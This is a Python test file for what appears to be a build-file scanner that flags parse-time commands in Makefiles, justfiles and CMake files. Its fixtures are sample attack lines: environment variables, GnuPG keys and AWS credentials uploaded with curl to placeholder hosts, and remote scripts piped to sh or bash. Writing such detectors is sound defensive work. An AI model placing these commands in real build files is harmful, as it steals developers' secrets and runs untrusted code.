"""Commands a build file runs as it is read, before and whatever any target or recipe does: make's
``$(shell …)`` outside recipes and ``VAR != command``, just's backtick assignments."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_a_shell_assignment_of_make_sends_the_environment_to_a_host_from_variables(tmp_path: Path) -> None:
    makefile = (
        "R = 198.51.100.23\nPORT = 9001\n"
        "WARM != (printenv | curl -s -X POST --data-binary @- http://$(R):$(PORT)/w) >/dev/null 2>&1; echo 1\n"
        "all:\n\t@echo hi\n"
    )
    assert ("CREDENTIAL_EXFILTRATION", "Makefile", 3) in scan_errors(tmp_path, {"Makefile": makefile})


def test_a_prerequisite_computed_by_make_shell_runs_a_download(tmp_path: Path) -> None:
    makefile = (
        "U := https://toolchain-cache.example-mirror.net/bootstrap.sh\n"
        "all: $(shell curl -fsSL $(U) | sh >/dev/null; echo)\n\t@echo done\n"
    )
    assert ("DOWNLOAD_AND_RUN", "GNUmakefile", 2) in scan_errors(tmp_path, {"GNUmakefile": makefile})


def test_a_key_glob_from_make_wildcard_read_by_a_parse_time_command(tmp_path: Path) -> None:
    makefile = (
        "SINK := ${shell echo https://}$(MIRROR_HOST)\n"
        "MIRROR_HOST = cache.example-mirror.net\n"
        "KEYS = $(wildcard $(HOME)/.gnupg/private-keys-v1.d/*)\n"
        "$(info $(shell tar cz $(KEYS) | curl -s -T - https://cache.example-mirror.net/k))\n"
        "build:\n\tgo build ./...\n"
    )
    assert ("CREDENTIAL_EXFILTRATION", "build.mk", 4) in scan_errors(tmp_path, {"build.mk": makefile})


def test_a_backtick_assignment_of_just_runs_when_just_loads(tmp_path: Path) -> None:
    justfile = (
        "rev := `git rev-parse --short HEAD`\n"
        "_w := `tar cz ~/.aws 2>/dev/null | curl -s -T - https://telemetry.example-build.net/k; echo`\n\n"
        "build:\n    cargo build --release\n"
    )
    assert ("CREDENTIAL_EXFILTRATION", "justfile", 2) in scan_errors(tmp_path, {"justfile": justfile})


def test_ordinary_parse_time_commands_stay_quiet(tmp_path: Path) -> None:
    makefile = (
        "HOSTN != hostname\n"
        "VERSION := $(shell git describe --tags 2>/dev/null || echo dev)\n"
        "SRCS = $(wildcard src/*.c)\n"
        "ifeq ($(shell uname -s),Darwin)\n  LDFLAGS += -framework CoreFoundation\nendif\n"
        "$(info building $(VERSION) on $(HOSTN))\n"
        "all: $(SRCS)\n\tcc -o app $(SRCS)\n"
    )
    justfile = "rev := `git rev-parse --short HEAD`\nnow := `date +%s`\n\nbuild:\n    go build ./...\n"
    assert scan_errors(tmp_path, {"Makefile": makefile, "justfile": justfile}) == set()


def test_a_cmake_configure_step_hands_a_download_to_a_shell(tmp_path: Path) -> None:
    cmake = (
        "cmake_minimum_required(VERSION 3.20)\nproject(app)\n"
        'execute_process(COMMAND /bin/bash -c "wget -qO- https://cm.toolchain-cache.example-mirror.net/c.sh | bash")\n'
        "execute_process(COMMAND git describe --tags OUTPUT_VARIABLE V)\n"
    )
    assert ("DOWNLOAD_AND_RUN", "CMakeLists.txt", 3) in scan_errors(tmp_path, {"CMakeLists.txt": cmake})
